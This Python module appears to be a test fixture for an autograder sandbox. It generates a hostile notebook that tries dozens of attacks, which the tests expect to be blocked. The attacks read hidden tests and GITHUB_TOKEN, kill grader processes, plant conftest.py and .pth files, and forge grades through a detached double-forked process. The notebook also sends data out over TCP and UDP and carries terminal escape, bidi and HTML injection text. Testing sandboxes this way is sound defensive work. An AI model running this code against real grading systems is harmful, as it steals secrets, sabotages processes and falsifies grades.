"""What an attacking notebook runs: every attack of the list, each recorded in `attack_results`
as "blocked: ..." or "DONE: ...", then a detached process that keeps trying to forge the
grader's outputs after the notebook is done, and a `train_step` whose error message carries
whatever the notebook found plus text meant to fool a reader.

The attacker is the strongest one can be: it is told the exact paths and pids to aim at
(`targets`), which a real one would have to guess.
"""

from __future__ import annotations

import json

FORGER_MARK = "grader-attack-forger"
FAKE_SCORE = "total 10 / 10"
ESCAPES = "\x1b[2K\x1b[1A\x1b]0;pwned\x07\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
BIDI = "\u202egnihton\u202c"
HTML = "<img src=x onerror=alert(1)> <details open><summary>FULL MARKS</summary></details>"

# Attacks whose success would be harmless inside a sandbox (they act on the kernel's own
# namespace); the grading tests check from outside that they changed nothing.
HARMLESS_IF_DONE = frozenset({"kill every process it can see", "send a UDP datagram",
                              "start a detached forger"})

ATTACKS = r'''
import glob, json, os, signal, socket, subprocess, sys, time
TARGETS = json.loads(%(targets)r)
attack_results = {}

def attempt(name, action):
    try:
        attack_results[name] = "DONE: " + repr(action())[:300]
    except BaseException as exc:
        attack_results[name] = f"blocked: {type(exc).__name__}: {exc}"[:300]

def read(path):
    with open(path, "rb") as handle:
        return handle.read(200)

def append(path, data=b"\n# forged by a notebook\n"):
    with open(path, "ab") as handle:
        handle.write(data)
    return path

def first(paths, what):
    found = [p for p in paths if os.path.exists(p)]
    if not found:
        raise FileNotFoundError(f"no {what} visible")
    return found

def pids_named(word):
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if word in read(f"/proc/{entry}/cmdline").decode(errors="replace"):
                    found.append(int(entry))
            except OSError:
                pass
    if not found:
        raise ProcessLookupError(f"no process with {word!r} visible")
    return found

def grader_folder_through_proc():
    return os.listdir(f"/proc/{TARGETS['grader_pid']}/cwd")

def kit_through_module():
    import grader
    return read(os.path.join(os.path.dirname(grader.__file__), "assignments",
                             os.path.basename(TARGETS["hidden_tests"])))

def from_environment(*names):
    values = {n: os.environ[n] for n in names if n in os.environ}
    if not values:
        raise LookupError(f"none of {names} in the environment")
    return values

def environ_of_others():
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if b"GITHUB_TOKEN" in read(f"/proc/{entry}/environ"):
                    found.append(entry)
            except OSError:
                pass
    found += [str(TARGETS["grader_pid"])] if os.path.exists(
        f"/proc/{TARGETS['grader_pid']}/environ") else []
    if not found:
        raise LookupError("no other process's environment readable")
    return found

def kernel_connection_files():
    patterns = ["/tmp/grader-kernel-*/channels/*.json", "/root/.local/share/jupyter/runtime/*",
                os.path.expanduser("~/.local/share/jupyter/runtime/*"),
                os.path.join(TARGETS["tmp"], "grader-kernel-*", "channels", "*.json")]
    mine = os.path.abspath(os.path.join(os.getcwd(), "..", "channels"))
    found = [p for pattern in patterns for p in glob.glob(pattern)
             if not p.startswith(mine)]
    return [read(p) for p in first(found, "other kernel's connection file")]

def ask_fork_server():
    sockets = glob.glob("/tmp/grader-forkserver-*/socket") + glob.glob(
        os.path.join(TARGETS["tmp"], "grader-forkserver-*", "socket"))
    for path in first(sockets, "fork server socket"):
        client = socket.socket(socket.AF_UNIX)
        client.connect(path)
        client.sendall(json.dumps({"cwd": "/", "env": {}, "argv": [], "startup": []}).encode()
                       + b"\n")
        return client.recv(100)

def tcp():
    with socket.create_connection(("127.0.0.1", TARGETS["tcp_port"]), timeout=3) as conn:
        conn.sendall(b"exfiltrated")
    return "connected"

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        conn.sendto(b"exfiltrated", ("127.0.0.1", TARGETS["udp_port"]))
    return "sent"

def write_outside():
    path = TARGETS["outside_file"]
    with open(path, "wb") as handle:
        handle.write(b"x" * (1 << 20))
    return path

attempt("read the solution", lambda: read(TARGETS["solution"]))
attempt("read the hidden tests", lambda: read(TARGETS["hidden_tests"]))
attempt("read the kit through grader.__file__", kit_through_module)
attempt("read the grader's folder through /proc/<pid>/cwd", grader_folder_through_proc)
attempt("read the grader's folder through $PWD or $PYTHONPATH",
        lambda: from_environment("PWD", "OLDPWD", "PYTHONPATH"))
attempt("poison the reference cache", lambda: append(os.path.join(TARGETS["cache"], "00.json")))
attempt("append a no-op check to a test module", lambda: append(TARGETS["test_module"]))
attempt("drop a conftest.py next to the tests", lambda: append(TARGETS["conftest"]))
attempt("drop a conftest.py at the course's root", lambda: append(TARGETS["root_conftest"]))
attempt("drop a .pth file into site-packages", lambda: append(TARGETS["pth"]))
attempt("patch a module the grader imports late", lambda: append(TARGETS["late_module"]))
attempt("rewrite the gradebook", lambda: append(TARGETS["gradebook"]))
attempt("overwrite a classmate's submission", lambda: append(TARGETS["classmate"]))
attempt("read another kernel's connection file", kernel_connection_files)
attempt("signal the grading process", lambda: os.kill(TARGETS["grader_pid"], signal.SIGKILL))
attempt("signal a sibling grading process",
        lambda: [os.kill(pid, signal.SIGKILL) for pid in pids_named("pytest")])
attempt("signal the fork server",
        lambda: [os.kill(pid, signal.SIGKILL) for pid in pids_named("fork_server")])
attempt("ask the fork server for a kernel without limits", ask_fork_server)
attempt("read GITHUB_TOKEN from the environment", lambda: from_environment("GITHUB_TOKEN"))
attempt("read another process's environment", environ_of_others)
attempt("write to the grader's terminal through /proc",
        lambda: append(f"/proc/{TARGETS['grader_pid']}/fd/1", b"%(fake)s\n"))
attempt("append HTML to the job summary", lambda: append(TARGETS["step_summary"], b"<b>x</b>"))
attempt("write outside the scratch folder", write_outside)
attempt("connect over TCP", tcp)
attempt("send a UDP datagram", udp)

def forge_later():
    """A detached process (double fork, new session) that keeps forging for 25 s."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", %(forger)r, "%(mark)s",
                                      json.dumps(TARGETS)])
        os._exit(0)
    os.wait()
    return "started"

def kill_everything():
    # The test's own safety: outside a PID namespace this would kill the machine's processes.
    if os.getpid() != 1:
        return "UNSAFE: not in a PID namespace of its own, not attempted"
    os.kill(-1, signal.SIGKILL)
    return "killed"

attempt("kill every process it can see", kill_everything)
attempt("start a detached forger", forge_later)

found = {name: outcome for name, outcome in attack_results.items() if outcome.startswith("DONE")}

def train_step(X, y, W, b, lr):
    raise RuntimeError(%(message)r + json.dumps(found) + " " + "noise " * 2000)
'''

FORGER = r'''
import json, os, sys, time
targets = json.loads(sys.argv[2])
deadline = time.time() + 25
while time.time() < deadline:
    for key in ("gradebook", "grade_json", "autograde_json", "step_summary", "classmate"):
        try:
            with open(targets[key], "a") as handle:
                handle.write("forged after the fact\n")
        except OSError:
            pass
    try:
        with open(f"/proc/{targets['grader_pid']}/fd/1", "w") as terminal:
            terminal.write("%(fake)s\n")
    except OSError:
        pass
    time.sleep(0.3)
'''


def attack_source(targets: dict[str, object]) -> str:
    message = f"\r{FAKE_SCORE} {ESCAPES} {BIDI} {HTML} found: "
    forger = FORGER % {"fake": FAKE_SCORE}
    return ATTACKS % {"targets": json.dumps(targets), "forger": forger, "mark": FORGER_MARK,
                      "fake": FAKE_SCORE, "message": message}
